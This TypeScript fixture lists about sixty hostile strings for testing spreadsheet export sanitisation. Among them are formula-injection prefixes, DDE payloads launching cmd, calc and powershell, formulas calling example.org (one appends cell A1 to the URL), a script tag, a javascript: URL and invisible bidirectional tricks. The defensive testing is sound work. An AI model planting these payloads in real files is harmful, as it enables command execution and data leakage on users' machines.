/** Bidirectional controls, written as escapes so that this file reads in one direction. */
const RLO = "\u202e";
const RLM = "\u200f";
const LRI = "\u2066";
const PDI = "\u2069";

/**
 * Sixty texts that have done harm in other people's sheets: what Excel or a reader of the file could compute, follow,
 * cut, hide or turn into another value. Each is different, also after trimming and without regard to case.
 */
export const HOSTILE: readonly string[] = [
  // What begins like a formula, in every way that Excel and its importers know.
  "=1+1",
  "==1+1",
  "=A1",
  "+49 30 123456",
  "+1+2",
  "-1-2",
  "-Need",
  "--2",
  "@here",
  "@SUM(1+9)",
  "= 1+1",
  " =1+1 blank before",
  "\t=1+1 tab before",
  "\r=1+1 return before",
  "\n=1+1 line before",
  "＝1＋1 full width",
  "'=1+1",
  "''",
  '"=1+1"',
  "=1+1;=2+2",
  // Formulas that call out.
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "+cmd|'/C powershell'!_xlbgnm.A1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?"&A1,"click")',
  '=WEBSERVICE("https://example.org/")',
  '=IMPORTXML("https://example.org/","//a")',
  "=INDIRECT(\"'[other.xlsx]Sheet1'!A1\")",
  '=IMAGE("https://example.org/pixel.png")',
  "=LAMBDA(x,x+1)(1)",
  "{=SUM(A1:A9)}",
  "=#REF!",
  // Addresses, which Excel makes links of.
  "https://example.org/?a=1&b=2",
  "mailto:someone@example.org",
  "\\\\server\\share\\file.xlsx",
  "javascript:alert(1)",
  // Texts that look like values.
  "00103",
  "1E5",
  "1/2",
  "12 %",
  "TRUE",
  "#N/A",
  "2026-03-01",
  "１２３",
  "∞",
  // Marks that no one sees.
  `${RLO}xslx.exe`,
  `${RLM}عميل`,
  `${LRI}=1+1${PDI}`,
  "zero\u200bwidth",
  "\ufeff=1+1 byte order mark",
  "no\u00a0break",
  "soft\u00adhyphen",
  // What breaks markup, escapes and encodings.
  "<script>alert(1)</script>",
  "]]><x/>&amp;&#61;1+1",
  "_x003D_1+1",
  "bell\u0007 null-like \u0001",
  "half \ud83d of a pair",
  "\ude00 the other half",
  "{{count}} $t(error.excel) %s ${1+1}",
  "x".repeat(32_767),
];
